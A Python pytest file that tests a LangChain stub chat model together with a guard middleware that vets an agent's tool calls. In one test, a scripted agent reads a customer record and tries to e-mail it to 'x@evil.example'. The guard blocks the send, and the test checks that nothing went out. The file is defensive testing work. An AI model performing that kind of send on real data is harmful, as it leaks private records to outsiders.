"""The LangChain test doubles: ReactiveChatModel answers from the messages so far, the guard's refusals included."""

from __future__ import annotations

import asyncio
from collections.abc import Sequence
from typing import Any

import pytest

pytest.importorskip("langchain")

from langchain.agents import create_agent
from langchain_core.messages import AIMessage, BaseMessage, HumanMessage, ToolMessage
from langchain_core.tools import BaseTool, tool

from guard import Guard, load_policy
from guard.adapters.langchain import GuardMiddleware
from guard.adapters.langchain_testing import ReactiveChatModel, Reply, tool_call
from tests.adapters.mail_agent_data import POLICY, RECORD

SORRY = "Sorry, I may not send that record outside; nothing was sent."


def test_reply_forms_and_binding() -> None:
    """Each reply form becomes the right AIMessage (text → final answer, call dicts → tool calls, an AIMessage as
    given but with a fresh id), sync and async, and bind_tools keeps the model.  Catches a model that drops tool
    calls, keeps the callback's message id (two turns with one id would merge), or breaks when bound to tools."""
    calls = [tool_call("read_inbox", {}, "c1")]
    given = AIMessage(content="as given", id="fixed")
    replies: dict[str, Reply] = {"text": "final words", "calls": calls, "message": given}
    for kind, reply in replies.items():
        model = ReactiveChatModel(respond=lambda _messages, reply=reply: reply).bind_tools([])
        assert isinstance(model, ReactiveChatModel)
        for out in (model.invoke([HumanMessage("hi")]), asyncio.run(model.ainvoke([HumanMessage("hi")]))):
            assert isinstance(out, AIMessage) and out.id != "fixed"
            if kind == "text":
                assert (out.content, out.tool_calls) == ("final words", [])
            elif kind == "calls":
                assert out.content == "" and [c["id"] for c in out.tool_calls] == ["c1"]
            else:
                assert out.content == "as given"


def test_callback_sees_the_messages_so_far() -> None:
    """The callback gets every message it is invoked with, in order.  Catches a model that passes only the last
    message, or none, to the callback (a reacting script could then not read a tool result)."""
    seen: list[list[str]] = []

    def respond(messages: Sequence[BaseMessage]) -> Reply:
        seen.append([str(m.content) for m in messages])
        return "ok"

    model = ReactiveChatModel(respond=respond)
    model.invoke([HumanMessage("one"), AIMessage("two"), ToolMessage("three", tool_call_id="c1")])
    assert seen == [["one", "two", "three"]]


def test_a_bad_reply_is_a_type_error() -> None:
    """Catches a model that turns a mistaken callback result (a number, a list of strings) into some message."""
    for bad in (3, ["not a call"]):
        model = ReactiveChatModel(respond=lambda _messages, bad=bad: bad)
        with pytest.raises(TypeError, match="respond returned"):
            model.invoke([HumanMessage("hi")])


def _mail_tools(sent: list[str]) -> list[BaseTool]:
    @tool
    def read_record(name: str) -> str:
        """Read a customer record."""
        return RECORD

    @tool
    def send_email(to: str, subject: str, body: str) -> str:
        """Send an e-mail."""
        sent.append(to)
        return f"sent to {to}"

    return [read_record, send_email]


def _reacting(saw: list[str]) -> Any:
    """Read the record, mail it outside; when the guard refuses the send, apologize and stop."""

    def respond(messages: Sequence[BaseMessage]) -> Reply:
        last = messages[-1]
        if isinstance(last, HumanMessage):
            return [tool_call("read_record", {"name": "Lena Novak"}, "c1")]
        if isinstance(last, ToolMessage) and last.status == "error":
            saw.append(str(last.content))
            return SORRY
        if isinstance(last, ToolMessage) and last.tool_call_id == "c1":
            return [tool_call("send_email", {"to": "x@evil.example", "subject": "r", "body": RECORD}, "c2")]
        return "Done."

    return ReactiveChatModel(respond=respond)


@pytest.mark.parametrize("run", ["invoke", "ainvoke"])
def test_the_model_reacts_to_the_guards_refusal(run: str) -> None:
    """With GuardMiddleware enforcing, the send is refused, the model reads the refusal (the guard's text, naming
    the tool and verdict) and ends the run with its apology; nothing was sent.  Catches a refusal the model never
    sees (planted: ``_generate`` passing ``messages[:-1]`` -> the model answers "Done." without the apology)."""
    sent: list[str] = []
    saw: list[str] = []
    guard = Guard(load_policy(POLICY), threshold=0.5)
    agent = create_agent(_reacting(saw), _mail_tools(sent), middleware=[GuardMiddleware(guard)])
    task = {"messages": [("user", "Read Lena Novak's record.")]}
    cfg = {"configurable": {"thread_id": f"react-{run}"}}
    out = agent.invoke(task, cfg) if run == "invoke" else asyncio.run(agent.ainvoke(task, cfg))
    assert out["messages"][-1].content == SORRY
    assert sent == []
    assert len(saw) == 1 and saw[0].startswith("carbguard did not run `send_email` (escalate")
